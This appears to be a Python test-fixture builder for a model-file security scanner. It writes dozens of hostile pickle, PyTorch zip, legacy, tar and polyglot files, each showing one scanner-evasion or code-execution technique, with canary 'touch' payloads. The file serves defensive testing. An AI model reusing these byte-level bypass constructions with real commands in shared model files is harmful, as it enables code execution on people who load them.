"""Hostile model files, built at test time, one per technique of security.md sections 0-3.

Every payload, if a real unpickler ran it, would create its own canary file in ``canary_dir``
(``touch``, ``open(..., 'w')``, ``logging.FileHandler``...). The tests never load these files with a
real unpickler; they assert the canary never appears. Streams are written opcode by opcode.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from pathlib import Path

from .zipbuild import Member, build_zip, torch_members

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


# -- opcode helpers (protocol 2 unless said otherwise) ---------------------------------------------

def u(text: str) -> bytes:
    b = text.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def short_u(text: str) -> bytes:
    b = text.encode()
    return b"\x8c" + bytes([len(b)]) + b


def g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    return short_u(module) + short_u(name) + b"\x93"


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + b"R"


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    # framed like CPython's pickler does (one frame around the whole body)
    inner = body + b"."
    return b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner


def binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def long1(n: int) -> bytes:
    b = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(b)]) + b


def binbytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def tensor_v2(key: str, numel: int, storage: str = "FloatStorage", size=(3,), stride=(1,), offset: int = 0) -> bytes:
    pid = tup(u("storage"), g("torch", storage), u(key), u("cpu"), binint(numel))
    return call(g("torch._utils", "_rebuild_tensor_v2"), pid + b"Q", binint(offset),
                tup(*[binint(x) for x in size]), tup(*[binint(x) for x in stride]), b"\x89",
                call(g("collections", "OrderedDict")))


def state_dict(*pairs: tuple[str, bytes]) -> bytes:
    return b"}(" + b"".join(u(k) + v for k, v in pairs) + b"u"


# -- payloads ---------------------------------------------------------------------------------------

def sh(c: Path) -> str:
    return f"touch {c}"


def py(c: Path) -> str:
    return f"open({str(c)!r}, 'w').close()"


def os_system(c: Path, module: str = "os") -> bytes:
    return call(g(module, "system"), u(sh(c)))


def legacy_file(obj_stream: bytes, *, magic_stream: bytes | None = None, sys_stream: bytes | None = None,
                keys_stream: bytes | None = None, records: bytes = b"") -> bytes:
    magic = magic_stream if magic_stream is not None else p2(long1(LEGACY_MAGIC))
    proto = p2(b"M" + struct.pack("<H", 1001))
    sysinfo = sys_stream if sys_stream is not None else p2(
        b"}(" + u("protocol_version") + b"M" + struct.pack("<H", 1001) + u("little_endian") + b"\x88" + u(
            "type_sizes") + b"}(" + u("short") + b"K\x02" + u("int") + b"K\x04" + u("long") + b"K\x04" + b"uu")
    keys = keys_stream if keys_stream is not None else p2(b"]")
    return magic + proto + sysinfo + obj_stream + keys + records


def legacy_storage_record(values: bytes, itemsize: int) -> bytes:
    return struct.pack("<q", len(values) // itemsize) + values


def legacy_tensor_file(obj_body_extra: bytes = b"") -> bytes:
    """A legacy torch file holding one 3-float tensor under key 'w' (plus ``obj_body_extra`` pairs)."""
    pid = tup(u("storage"), g("torch", "FloatStorage"), u("140000001"), u("cpu"), binint(3), b"N")
    t = call(g("torch._utils", "_rebuild_tensor_v2"), pid + b"Q", binint(0), tup(binint(3)), tup(binint(1)), b"\x89",
             call(g("collections", "OrderedDict")))
    obj = p2(b"}(" + u("w") + t + obj_body_extra + b"u")
    keys = p2(b"]" + b"(" + u("140000001") + b"e")
    return legacy_file(obj, keys_stream=keys, records=legacy_storage_record(struct.pack("<3f", 1, 2, 3), 4))


def benign_zip(root: str = "archive", extra_pairs: bytes = b"", **kw) -> bytes:
    data = p2(state_dict(("w", tensor_v2("0", 3))) [:-1] + extra_pairs + b"u")
    return build_zip(torch_members(root, data, {"0": struct.pack("<3f", 1, 2, 3)}), **kw)


@dataclass
class Case:
    name: str
    technique: str
    path: Path
    canary: Path
    #: "malicious" when the verdict must be exactly that; "unsafe" when suspicious is acceptable too
    expect: str = "malicious"
    #: the hostile pickle stream itself (for the pickletools cross-check), None when not applicable
    stream: bytes | None = None
    #: globals ``pickletools`` must see in ``stream`` ("module name")
    shows: tuple[str, ...] = ()
    #: how the payload is proven live in a throwaway process: "pickle" (plain pickle.load of the file),
    #: "torch" (torch.load(weights_only=False) of the file), "" (not proven; see ROUND_TWO_NOT_LIVE)
    live: str = ""


def build_hostile(folder: Path, canary_dir: Path) -> list[Case]:
    folder.mkdir(parents=True, exist_ok=True)
    canary_dir.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(name: str, technique: str, suffix: str, content: bytes, expect: str = "malicious",
            stream: bytes | None = None, shows: tuple[str, ...] = (), live: str = "") -> None:
        p = folder / f"{name}{suffix}"
        p.write_bytes(content)
        cases.append(Case(name, technique, p, canary_dir / name, expect, stream, shows, live))

    def C(name: str) -> Path:  # noqa: N802
        return canary_dir / name

    # --- section 0/3.4: classic and scanner-bypass payloads -------------------------------------------
    s = p2(os_system(C("reduce_os_system")))
    add("reduce_os_system", "GLOBAL os.system + REDUCE (baller423/goober2 style)", ".pkl", s, stream=s,
        shows=("os system",))
    s = p2(os_system(C("posix_system"), "posix"))
    add("posix_system", "posix.system as pickle.dumps writes it on Linux", ".pt", s, stream=s, shows=("posix system",))
    s = p2(call(g("builtins", "exec"), u(py(C("builtins_exec")))))
    add("builtins_exec", "builtins.exec of source text", ".pt", s, stream=s, shows=("builtins exec",))
    s = b"c__builtin__\neval\n(S" + repr(py(C("proto0_eval"))).encode() + b"\ntR."
    add("proto0_eval", "protocol 0 text opcodes, __builtin__.eval", ".ckpt", s, stream=s, shows=("__builtin__ eval",))
    imp = call(g("builtins", "__import__"), u("os"))
    s = p2(call(call(g("builtins", "getattr"), imp, u("system")), u(sh(C("getattr_import")))))
    add("getattr_import", "builtins.getattr(__import__('os'), 'system')", ".pt", s, stream=s,
        shows=("builtins getattr", "builtins __import__"))
    s = p2(call(g("subprocess", "call"), b"(" + u("touch") + u(str(C("subprocess_call"))) + b"l"))
    add("subprocess_call", "subprocess.call(['touch', ...])", ".bin", s, stream=s, shows=("subprocess call",))
    mod = call(g("importlib", "import_module"), u("os"))
    s = p2(call(call(g("inspect", "getattr_static"), mod, u("system")), u(sh(C("importlib_inspect")))))
    add("importlib_inspect", "importlib.import_module + inspect.getattr_static (picklescan 1.0.5 miss)", ".ckpt", s,
        stream=s, shows=("importlib import_module", "inspect getattr_static"))
    s = p2(call(g("runpy", "_run_code"), u(py(C("runpy_run_code"))), b"}"))
    add("runpy_run_code", "runpy._run_code", ".pt", s, stream=s, shows=("runpy _run_code",))
    s = p2(call(call(g("pydoc", "locate"), u("os.system")), u(sh(C("pydoc_locate")))))
    add("pydoc_locate", "pydoc.locate('os.system')", ".pt", s, stream=s, shows=("pydoc locate",))
    part = call(g("functools", "partial"), g("os", "system"), u(sh(C("functools_partial"))))
    s = p2(part + b")R")
    add("functools_partial", "functools.partial(os.system, cmd)()", ".pt", s, stream=s,
        shows=("functools partial", "os system"))
    s = p2(call(call(g("operator", "methodcaller"), u("system"), u(sh(C("operator_methodcaller")))), imp))
    add("operator_methodcaller", "operator.methodcaller('system', cmd)(os)", ".pt", s, stream=s,
        shows=("operator methodcaller",))
    s = p2(call(call(call(g("_operator", "attrgetter"), u("system")), imp), u(sh(C("operator_attrgetter")))))
    add("operator_attrgetter", "_operator.attrgetter('system')(os)(cmd)", ".pt", s, stream=s,
        shows=("_operator attrgetter",))
    inner = p2(os_system(C("pickle_loads_inner")))
    s = p2(call(g("pickle", "loads"), binbytes(inner)))
    add("pickle_loads_inner", "pickle.loads of an inner payload", ".pt", s, stream=s, shows=("pickle loads",))
    s = p2(call(call(g("builtins", "getattr"), call(call(g("builtins", "getattr"), g("sys", "modules"), u("get")),
                                                   u("os")), u("system")), u(sh(C("sys_modules")))))
    add("sys_modules", "sys.modules['os'].system", ".pt", s, stream=s, shows=("sys modules",))
    src = folder / "shutil_source.txt"
    src.write_text("x")
    s = p2(call(g("shutil", "copyfile"), u(str(src)), u(str(C("shutil_copyfile")))))
    add("shutil_copyfile", "shutil.copyfile creates a file", ".pt", s, stream=s, shows=("shutil copyfile",))
    s = b"\x80\x04" + short_u("pkgutil") + b"\x94" + short_u("resolve_name") + b"\x94" + b"h\x00h\x01\x93" + \
        tup(short_u("os:system")) + b"R" + tup(short_u(sh(C("pkgutil_resolve_memo")))) + b"R."
    add("pkgutil_resolve_memo", "pkgutil.resolve_name('os:system'), STACK_GLOBAL operands from the memo", ".pt", s,
        stream=s, shows=("pkgutil resolve_name",))
    s = p4(sg("torch", "os.system") + tup(short_u(sh(C("dotted_stack_global")))) + b"R")
    add("dotted_stack_global", "STACK_GLOBAL('torch', 'os.system') resolves torch.os.system (picklescan miss)", ".pt",
        s, stream=s, shows=("torch os.system",))
    s = b"\x80\x04" + g("torch", "os.system") + tup(short_u(sh(C("dotted_global_proto4")))) + b"R."
    add("dotted_global_proto4", "PROTO 4 GLOBAL 'torch' 'os.system'", ".ckpt", s, stream=s, shows=("torch os.system",))
    s = p2(call(g("torch", "os.system"), u(sh(C("dotted_proto2")))))
    add("dotted_proto2", "PROTO 2 dotted GLOBAL", ".ckpt", s, stream=s, shows=("torch os.system",))
    s = p4(sg("pathlib", "os.system") + tup(short_u(sh(C("dotted_pathlib")))) + b"R")
    add("dotted_pathlib", "dotted name through a harmless stdlib module (fickling GHSA-5j3x)", ".pt", s, stream=s,
        shows=("pathlib os.system",))
    s = b"\x80\x02S'os'\nS'system'\n\x93" + tup(u(sh(C("stack_global_binstring")))) + b"R."
    add("stack_global_binstring", "STACK_GLOBAL with STRING operands (GHSA-9gvj)", ".pt", s, stream=s,
        shows=("os system",))
    s = b"(S" + repr(sh(C("inst_opcode"))).encode() + b"\nios\nsystem\n."
    add("inst_opcode", "protocol 0 INST calls the class", ".pt", s, stream=s, shows=("os system",))
    s = b"\x80\x02(" + g("os", "system") + u(sh(C("obj_opcode"))) + b"o."
    add("obj_opcode", "OBJ opcode", ".pt", s, stream=s, shows=("os system",))
    s = p2(g("subprocess", "Popen") + tup(b"(" + u("touch") + u(str(C("newobj_popen"))) + b"l") + b"\x81")
    add("newobj_popen", "NEWOBJ subprocess.Popen", ".pt", s, stream=s, shows=("subprocess Popen",))
    s = p2(call(g("logging", "FileHandler"), u(str(C("logging_filehandler")))))
    add("logging_filehandler", "logging.FileHandler creates its file on construction", ".pt", s, stream=s,
        shows=("logging FileHandler",))
    s = p2(call(g("_io", "FileIO"), u(str(C("io_fileio"))), u("w")))
    add("io_fileio", "_io.FileIO(path, 'w')", ".pt", s, stream=s, shows=("_io FileIO",))
    s = p2(call(g("timeit", "timeit"), u(py(C("timeit_stmt"))), b"N", b"N", binint(1)))
    add("timeit_stmt", "timeit.timeit runs a statement", ".pt", s, stream=s, shows=("timeit timeit",))
    s = p2(call(g("cProfile", "run"), u(py(C("cprofile_run")))))
    add("cprofile_run", "cProfile.run", ".pt", s, stream=s, shows=("cProfile run",))
    s = p2(call(g("uuid", "_get_command_stdout"), u("touch"), u(str(C("uuid_command")))))
    add("uuid_command", "uuid._get_command_stdout (picklescan 1.0.4 advisory)", ".pt", s, stream=s,
        shows=("uuid _get_command_stdout",))
    s = p2(call(g("numpy.testing._private.utils", "runstring"), u(py(C("numpy_runstring"))), b"}"))
    add("numpy_runstring", "numpy.testing runstring (exec)", ".pt", s, stream=s,
        shows=("numpy.testing._private.utils runstring",))
    code = call(g("builtins", "compile"), u(py(C("types_function"))), u("x"), u("exec"))
    s = p2(call(call(g("types", "FunctionType"), code, b"}"), ))
    add("types_function", "types.FunctionType over compile() (cloudpickle style)", ".pt", s, stream=s,
        shows=("types FunctionType", "builtins compile"))
    s = p2(call(call(g("builtins", "getattr"), call(g("ctypes", "CDLL"), b"N"), u("system")),
                binbytes(sh(C("ctypes_cdll")).encode())))
    add("ctypes_cdll", "ctypes.CDLL(None).system", ".pt", s, stream=s, shows=("ctypes CDLL",))
    target = folder / "torch_load_target.pt"
    target.write_bytes(p2(os_system(C("partial_torch_load"))))
    s = b"\x80\x04" + sg("functools", "partial") + tup(sg("torch", "load")) + b"}(" + short_u("weights_only") + \
        b"\x89u\x92" + tup(short_u(str(target))) + b"R."
    add("partial_torch_load", "functools.partial(torch.load, weights_only=False) via NEWOBJ_EX", ".pt", s, stream=s,
        shows=("functools partial", "torch load"))
    s = b"\x80\x02\x82\x01" + tup(u(sh(C("ext_code")))) + b"R."
    add("ext_code", "EXT1 extension code (global by number)", ".pt", s, expect="unsafe", stream=s)
    s = p2(g("torch_evil_models", "payload") + tup(u(sh(C("prefix_module")))) + b"R")
    add("prefix_module", "module name sharing the 'torch' prefix (prefix allowlists)", ".pt", s, expect="unsafe",
        stream=s, shows=("torch_evil_models payload",))

    s = b"S'" + b"x" * 200_000 + b"'\n0" + b"cos\nsystem\n(S'" + sh(C("long_text_then_payload")).encode() + b"'\ntR."
    add("long_text_then_payload", "a 200 KB protocol-0 text operand before the payload (bounded line readers)",
        ".pt", s, stream=s, shows=("os system",))

    # --- nested payloads ---------------------------------------------------------------------------------
    nested = legacy_file(p2(os_system(C("load_from_bytes_nested"))))
    s = p2(call(g("torch.storage", "_load_from_bytes"), binbytes(nested)))
    add("load_from_bytes_nested", "torch.storage._load_from_bytes(<legacy file with os.system>) (picklescan miss)",
        ".pt", s, stream=s, shows=("torch.storage _load_from_bytes",))
    nested2 = legacy_file(p2(os_system(C("load_from_bytes_codecs"))))
    s = p2(call(g("torch.storage", "_load_from_bytes"), call(g("_codecs", "encode"), u(nested2.decode("latin1")),
                                                            u("latin1"))))
    add("load_from_bytes_codecs", "_load_from_bytes payload spelled as _codecs.encode (protocol 2 bytes)", ".pt", s,
        stream=s)

    # --- FRAME lies ----------------------------------------------------------------------------------------
    # A file-object unpickler drops the rest of a frame when an operand does not fit in it; an
    # in-memory reader (pickletools, fickling, pickle.loads) reads straight on and sees only bytes.
    ops = g("os", "system") + tup(short_u(sh(C("frame_divergence")))) + b"R0"
    s = (b"\x80\x04\x95" + struct.pack("<Q", 2) + b"B" + bytes([1 + len(ops)]) + b"\0\0\0\0" + ops + b"N.")
    add("frame_divergence", "FRAME declares 2 bytes; BINBYTES length straddles it (fickling 0.1.12 LIKELY_SAFE)",
        ".pt", s)
    payload = g("os", "system") + tup(short_u(sh(C("frame_too_long")))) + b"R."
    s = b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + payload
    add("frame_too_long", "FRAME length past the end of the stream", ".pt", s)

    # --- broken streams --------------------------------------------------------------------------------------
    s = b"\x80\x02" + os_system(C("broken_after_payload")) + b"\xff\xfe garbage"
    add("broken_after_payload", "payload then a broken stream (nullifAI)", ".pt", s)
    s = b"\x80\x02" + os_system(C("truncated_after_payload"))
    add("truncated_after_payload", "payload then end of file, no STOP", ".bin", s)
    s = b"\x80\x02" + g("os", "system") + b"h\x07" + u(sh(C("memo_keyerror")))
    add("memo_keyerror", "payload global then a memo KeyError", ".pt", s)

    # --- polyglots -------------------------------------------------------------------------------------------
    mal = p2(os_system(C("polyglot_pkl")))
    add("polyglot_pkl", "malicious pickle + appended benign zip, .pkl (picklescan 1.0.5 miss)", ".pkl",
        mal + benign_zip())
    mal = p2(os_system(C("polyglot_ckpt")))
    add("polyglot_ckpt", "malicious pickle + appended benign zip, .ckpt", ".ckpt", mal + benign_zip())
    clean = p2(b"}")
    add("polyglot_clean_pickle", "harmless pickle + zip with a hostile data.pkl appended", ".ckpt",
        clean + build_zip(torch_members("archive", p2(os_system(C("polyglot_clean_pickle"))))), expect="unsafe")
    add("zip_prepended", "zip with data prepended before the first local header", ".ckpt",
        build_zip(torch_members("archive", p2(state_dict())), prefix=b"PK\x03\x04" + b"\0" * 60), expect="unsafe")

    # --- legacy (non-zip) format -----------------------------------------------------------------------------
    add("legacy_object_payload", "legacy format, os.system in the object pickle (modelscan miss)", ".ckpt",
        legacy_file(p2(os_system(C("legacy_object_payload")))))
    add("legacy_magic_eval", "legacy magic number produced by eval (GHSA-97f8)", ".ckpt",
        legacy_file(p2(b"}"), magic_stream=p2(call(g("builtins", "eval"), u(
            f"[open({str(C('legacy_magic_eval'))!r},'w'), 0x1950A86A20F9469CFC6C][1]")))))
    add("legacy_sysinfo_payload", "legacy format, payload in the sys_info pickle", ".pt",
        legacy_file(p2(b"}"), sys_stream=p2(os_system(C("legacy_sysinfo_payload")))))
    add("legacy_keys_payload", "legacy format, payload in the storage-key list pickle", ".pt",
        legacy_file(p2(b"}"), keys_stream=p2(os_system(C("legacy_keys_payload")))))
    add("legacy_tensor_plus_payload", "legacy file with a real tensor and an injected payload value", ".ckpt",
        legacy_tensor_file(u("x") + os_system(C("legacy_tensor_plus_payload"))))
    s = p2(os_system(C("plain_named_bin")))
    add("plain_named_bin", "plain pickle named .bin (runs before the magic check)", ".bin", s)

    # --- zip differentials -----------------------------------------------------------------------------------
    hostile = p2(state_dict(("w", tensor_v2("0", 3))) + b"0" + os_system(C("zip_injected")))
    rec = {"0": struct.pack("<3f", 1, 2, 3)}
    add("zip_injected", "payload injected into a real-looking data.pkl (fickling inject style)", ".ckpt",
        build_zip(torch_members("archive", hostile, rec)))
    add("zip_dotted", "dotted STACK_GLOBAL inside a zip's data.pkl", ".ckpt",
        build_zip(torch_members("archive", p4(sg("torch", "os.system") + tup(short_u(sh(C("zip_dotted")))) + b"R"))))
    ms = torch_members("archive", p2(os_system(C("zip_bad_crc"))))
    ms[0].crc = 0x12345678
    add("zip_bad_crc", "zip member with a wrong CRC (torch ignores it; picklescan <0.0.31 aborted)", ".ckpt",
        build_zip(ms))
    ms = torch_members("archive", p2(os_system(C("zip_name_mismatch"))))
    ms[0].local_name = "archive/dat4.pkl"
    add("zip_name_mismatch", "local header name differs from the central directory", ".ckpt", build_zip(ms))
    ms = torch_members("archive", p2(os_system(C("zip_encrypted_flag"))))
    ms[0].flags |= 0x1
    add("zip_encrypted_flag", "encryption flag on data.pkl", ".ckpt", build_zip(ms), expect="unsafe")
    ms = torch_members("archive", p2(state_dict()))
    ms.append(Member("archive/data.pkl", p2(os_system(C("zip_duplicate_last")))))
    add("zip_duplicate_last", "duplicate data.pkl, hostile last (the one torch reads)", ".ckpt", build_zip(ms))
    ms = torch_members("archive", p2(os_system(C("zip_duplicate_first"))))
    ms.append(Member("archive/data.pkl", p2(state_dict())))
    add("zip_duplicate_first", "duplicate data.pkl, hostile first", ".ckpt", build_zip(ms))
    ms = torch_members("archive", p2(state_dict()))
    ms.append(Member("other/data.pkl", p2(os_system(C("zip_second_root")))))
    add("zip_second_root", "second root folder with its own data.pkl", ".ckpt", build_zip(ms))
    ms = torch_members("archive", p2(state_dict()),
                       extra=[Member("archive/notes.txt", b"cos\nsystem\n(S'" + sh(C("zip_txt_member")).encode() +
                                     b"'\ntR.")])
    add("zip_txt_member", "protocol-0 payload in a non-.pkl member (picklescan: not scanned)", ".ckpt",
        build_zip(ms))
    ms = torch_members("archive", p2(os_system(C("zip_deflated"))))
    ms[0].method = 8
    add("zip_deflated", "DEFLATE-compressed data.pkl (torch accepts it)", ".ckpt", build_zip(ms))
    ms = torch_members("archive", p2(state_dict()), extra=[Member("archive/constants.pkl",
                                                                  p2(os_system(C("torchscript_constants"))))])
    add("torchscript_constants", "TorchScript archive with a payload in constants.pkl (CVE-2025-32434)", ".pt",
        build_zip(ms))

    # --- memory-safety patterns ---------------------------------------------------------------------------
    lie = p2(state_dict(("w", tensor_v2("0", 1000, size=(1000,)))))
    add("storage_size_lie", "pid numel 1000 over a 12-byte record (CVE-2026-24747)", ".ckpt",
        build_zip(torch_members("archive", lie, {"0": struct.pack("<3f", 1, 2, 3)})))
    setitem = p2(state_dict(("w", tensor_v2("0", 3) + b"(" + binint(0) + os_system(C("setitem_on_tensor")) + b"u")))
    add("setitem_on_tensor", "SETITEMS on a tensor (CVE-2026-24747 write primitive)", ".ckpt",
        build_zip(torch_members("archive", setitem, {"0": struct.pack("<3f", 1, 2, 3)})))
    view = p2(state_dict(("w", tensor_v2("0", 3, size=(100,), stride=(1,)))))
    add("view_past_storage", "tensor view reaching past its storage", ".ckpt",
        build_zip(torch_members("archive", view, {"0": struct.pack("<3f", 1, 2, 3)})), expect="unsafe")
    build = p2(g("os", "system") + b"}(" + u("__call__") + u("x") + b"ub" + b"0" + b"}")
    add("build_on_global", "BUILD on a class global (sets attributes of os.system's owner)", ".pt", build)

    # --- wrappers ------------------------------------------------------------------------------------------
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for member, content in (("sys_info", p2(b"}")), ("pickle", p2(os_system(C("legacy_tar_pickle")))),
                                ("storages", p2(b"K\x00")), ("tensors", p2(b"K\x00"))):
            info = tarfile.TarInfo(member)
            info.size = len(content)
            tf.addfile(info, io.BytesIO(content))
    add("legacy_tar_pickle", "torch 0.1 tar format with a payload in its 'pickle' member", ".pt", buf.getvalue())
    add("archive_7z", "7z-wrapped payload (nullifAI)", ".pt", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24 +
        p2(os_system(C("archive_7z"))), expect="unsafe")
    round_two(add, C, folder)
    return cases


# -- round two (issue 12): payloads behind what CPython's unpickler accepts and ours did not -----------

def p0_payload(c: Path) -> bytes:
    """A protocol-0 payload (text opcodes), as CPython's unpickler reads it anywhere in a stream."""
    return b"cos\nsystem\n(S'" + sh(c).encode() + b"'\ntR."


def safetensors_polyglot(c: Path, *, valid: bool) -> bytes:
    """A file whose first 8 bytes are both a safetensors header length and the start of a pickle: BINBYTES
    ('B' + 4-byte length) swallows the zero bytes, '{' and the start of the JSON header. ``valid``: the
    JSON is a real safetensors header (one U8 tensor holding the payload bytes) and the pickle hops
    through the rest of a metadata string with SHORT_BINBYTES ('C' + length byte), whose opcode and
    length bytes are printable, so both readings hold; otherwise the payload follows the swallowed part
    and the header is not valid JSON."""
    import json

    payload = p0_payload(c)
    if not valid:
        L = 64  # noqa: N806
        n = 0x42 | (L << 8)
        body = b"B" + struct.pack("<I", L) + b"\0\0\0" + b"{" + b"x" * (L - 4) + payload
        return body + b" " * (8 + n - len(body))
    tensor = {"w": {"dtype": "U8", "shape": [len(payload)], "data_offsets": [0, len(payload)]}}
    head = json.dumps(tensor, separators=(",", ":"))[:-1] + ',"__metadata__":{"p":"'
    tail = '"}}'
    L = len(head) + 4  # noqa: N806 - the BINBYTES data ends inside the metadata string
    n = 0x42 | (L << 8)
    # JSON index where the pickle resumes: byte 5 + L of the file, i.e. index L - 3 of the header
    start = L - 3
    span = n - start  # hops cover from there to the end of the header
    hops, left = [], span
    while left:
        take = min(left, 120)
        if left - take and left - take < 40:
            take = left - 40
        hops.append(take)
        left -= take
    text = b""
    for i, size in enumerate(hops):
        dlen = size - 2
        data = b"x" * dlen if i < len(hops) - 1 else b"x" * (dlen - len(tail)) + tail.encode()
        text += b"C" + bytes([dlen]) + data
    header = head.encode() + b"x" * (start - len(head)) + text
    assert len(header) == n, (len(header), n)
    prefix = b"B" + struct.pack("<I", L)[:3]
    assert struct.pack("<Q", n)[:4] == prefix
    return struct.pack("<Q", n) + header + payload


def round_two(add, C, folder: Path) -> None:  # noqa: N803
    import io
    import tarfile

    # the VM rejected these; CPython reads them (oracle: tests/formats/test_pickle_differential.py)
    for name, frag, what in (
            ("mark_pop_payload", b"(0", "POP right after MARK pops the MARK"),
            ("int_hex_payload", b"I0x10\n0", "INT written in hex (strtol base 0)"),
            ("int_octal_payload", b"I010\n0", "INT with a leading zero is octal for strtol"),
            ("int_nul_payload", b"I5\x00junk\n0", "INT operand ends at a NUL byte"),
            ("long_bin_payload", b"L0b1L\n0", "LONG written in binary (PyLong_FromString base 0)"),
            ("long_underscore_payload", b"L1_0L\n0", "LONG with an underscore"),
            ("float_nul_payload", b"F1.5\x00x\n0", "FLOAT operand ends at a NUL byte"),
            ("put_nul_payload", b"Np5\x00x\n0g5\n0", "PUT/GET operands end at a NUL byte"),
            ("appends_empty_payload", b"}(e0", "empty APPENDS on a dict is a no-op"),
            ("setitem_list_payload", b"]Na" + b"K\x00K\x05s0", "SETITEM on a list index"),
            ("marks_100001_payload", b"(" * 100_001, "100,001 open MARKs (CPython has no limit)"),
            ("memo_5m_payload", b"Nr\x00\x00\x50\x000j\x00\x00\x50\x000", "memo index 5,242,880"),
            ("long4_5000_payload", b"\x8b\x88\x13\x00\x00" + b"\x01" * 5000 + b"0", "a 5000-byte LONG4"),
            ("int_5000_digits_payload", b"I0x" + b"f" * 5000 + b"\n0", "INT of 5000 hex digits (no digit limit)"),
            ("int_decimal_5000_payload", b"I" + b"9" * 5000 + b"\n0",
             "INT of 5000 decimal digits (read where PYTHONINTMAXSTRDIGITS=0)")):
        s = frag + p0_payload(C(name))
        add(name, f"{what}, then a payload", ".ckpt", s, stream=s, shows=("os system",), live="pickle")

    hostile = b"\x80\x02I0x10\n0" + os_system(C("zip_int_hex")) + b"."
    add("zip_int_hex", "hex INT before the payload in a torch zip's data.pkl", ".ckpt",
        build_zip(torch_members("archive", hostile)), live="torch")
    ms = torch_members("archive", p2(os_system(C("zip_data_pkl_case"))))
    ms[0].name = "archive/Data.pkl"
    add("zip_data_pkl_case", "archive/Data.pkl: torch's zip reader finds records without case", ".ckpt",
        build_zip(ms), live="torch")
    ms = torch_members("archive", p2(b"}"))
    ms.insert(1, Member("archive/DATA.PKL", p2(os_system(C("zip_data_pkl_case_dup")))))
    add("zip_data_pkl_case_dup", "data.pkl and DATA.PKL: which one torch reads is not defined", ".ckpt",
        build_zip(ms), live="torch")
    nested = legacy_file(p2(os_system(C("load_from_bytes_x3"))))
    for _ in range(3):
        nested = p2(call(g("torch.storage", "_load_from_bytes"), binbytes(nested)))
        nested = legacy_file(nested) if _ < 2 else nested
    add("load_from_bytes_x3", "_load_from_bytes nested 3 deep, payload innermost", ".pt", nested, live="pickle")
    add("safetensors_polyglot_ckpt", "safetensors-looking header whose first bytes are a pickle (.ckpt)", ".ckpt",
        safetensors_polyglot(C("safetensors_polyglot_ckpt"), valid=False), live="torch")
    add("safetensors_polyglot_valid", "valid safetensors file that is also a pickle (payload = tensor bytes)",
        ".ckpt", safetensors_polyglot(C("safetensors_polyglot_valid"), valid=True), live="torch")

    # torch checks `magic != MAGIC_NUMBER`: unittest.mock.ANY equals everything, so the legacy pickles that
    # follow are read; the protocol pickle has no PROTO opcode, so first-byte heuristics stop before them
    magic = b"cunittest.mock\nANY\n."
    rest = legacy_file(p2(os_system(C("magic_mock_any"))))
    rest = rest[len(p2(long1(LEGACY_MAGIC))) + len(p2(b"M" + struct.pack("<H", 1001))):]
    add("magic_mock_any", "legacy file whose magic number is unittest.mock.ANY (compares equal)", ".pt",
        magic + b"M" + struct.pack("<H", 1001) + b"." + rest, live="torch")

    # "GGUF" reads as BINFLOAT (8 bytes: "GUF", the version, one byte of the tensor count): what follows is
    # the pickle torch.load runs; the GGUF header itself is nonsense
    add("gguf_polyglot", "GGUF magic whose bytes are a BINFLOAT opcode, payload after", ".ckpt",
        b"GGUF" + b"\x03\x00\x00\x00" + b"\x01" + p0_payload(C("gguf_polyglot")), live="torch")

    def tar(members: list[tuple[str, bytes]], fmt=tarfile.USTAR_FORMAT, strip_magic: bool = False) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
            for member, content in members:
                info = tarfile.TarInfo(member)
                info.size = len(content)
                tf.addfile(info, io.BytesIO(content))
        data = bytearray(buf.getvalue())
        if strip_magic:  # an old V7 header: no "ustar" magic, checksum recomputed
            off = 0
            while off + 512 <= len(data) and any(data[off:off + 512]):
                size = int(bytes(data[off + 124:off + 136]).strip(b"\0 ") or b"0", 8)
                data[off + 257:off + 265] = b"\0" * 8
                data[off + 148:off + 156] = b" " * 8
                data[off + 148:off + 156] = b"%06o\0 " % sum(data[off:off + 512])
                off += 512 + (size + 511) // 512 * 512
        return bytes(data)

    def tar_members(storages: bytes) -> list[tuple[str, bytes]]:
        return [("sys_info", p2(b"}")), ("storages", storages + p2(b"]")), ("tensors", p2(b"K\x00")),
                ("pickle", p2(b"}"))]

    add("tar_v7_storages", "torch 0.1 tar without the ustar magic, payload in its storages pickle", ".pt",
        tar(tar_members(p0_payload(C("tar_v7_storages"))), strip_magic=True), live="torch")
    add("tar_storages_K", "tar 'storages' member starting with K (BININT1), then the payload", ".pt",
        tar(tar_members(b"K\x000" + p0_payload(C("tar_storages_K")))), live="torch")
    s = short_u("os") + short_u("system") + b"\x93" + tup(short_u(sh(C("tar_storages_proto4")))) + b"R."
    add("tar_storages_proto4", "tar 'storages' member with protocol-4 opcodes and no PROTO", ".pt",
        tar(tar_members(s)), live="torch")

